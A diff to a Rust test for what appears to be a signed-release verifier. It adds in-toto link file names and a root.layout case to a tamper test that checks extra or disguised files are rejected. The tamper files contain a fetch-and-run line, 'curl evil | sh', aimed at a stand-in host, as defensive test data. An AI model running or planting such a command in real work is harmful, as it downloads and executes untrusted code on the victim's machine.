@@ -953,6 +953,9 @@ fn tamper_an_extra_file_of_any_name() {
         "app-9.9.9-linux-amd64.cdx.intoto.jsonl",
         "app-1.0.0-linux-amd64.cdx.json.cdx.intoto.jsonl",
         "manifest.json.sig",
+        // in-toto links belong only where a root.layout lists their step and key.
+        "tag.0123abcd.link",
+        "build-linux-amd64.0123abcd.link",
     ] {
         std::fs::write(dir.join(name), "#!/bin/sh\ncurl evil | sh\n").unwrap();
         assert_fails(
@@ -962,6 +965,10 @@ fn tamper_an_extra_file_of_any_name() {
         );
         std::fs::remove_file(dir.join(name)).unwrap();
     }
+    // A `root.layout` is admitted by name only to be checked as one.
+    std::fs::write(dir.join("root.layout"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    assert_fails(&dir, &trusted, "metadata root.layout: ");
+    std::fs::remove_file(dir.join("root.layout")).unwrap();
     let (code, report) = verify_json(&dir, &trusted);
     assert_eq!((code, failed(&report)), (0, Vec::<String>::new()));
 }
